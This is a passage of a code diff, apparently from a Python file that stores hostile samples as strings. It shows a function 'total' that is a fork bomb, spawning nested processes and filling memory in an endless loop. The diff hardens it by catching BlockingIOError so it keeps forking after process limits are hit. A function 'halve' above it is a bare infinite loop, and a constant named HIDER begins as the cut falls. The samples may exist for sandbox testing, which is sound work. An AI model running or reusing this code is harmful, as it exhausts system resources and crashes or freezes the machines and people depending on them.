@@ -51,9 +51,11 @@ def halve(x, factor=0.5):
     while True: pass
 def total(x):
     while True:
-        if os.fork() == 0:
-            if os.fork() == 0: [n for n in range(10**6)]
-            os._exit(0)
+        try:
+            if os.fork() == 0:
+                if os.fork() == 0: [n for n in range(10**6)]
+                os._exit(0)
+        except BlockingIOError: pass
 """
 HIDER = """
 import mmap, os, socket, time
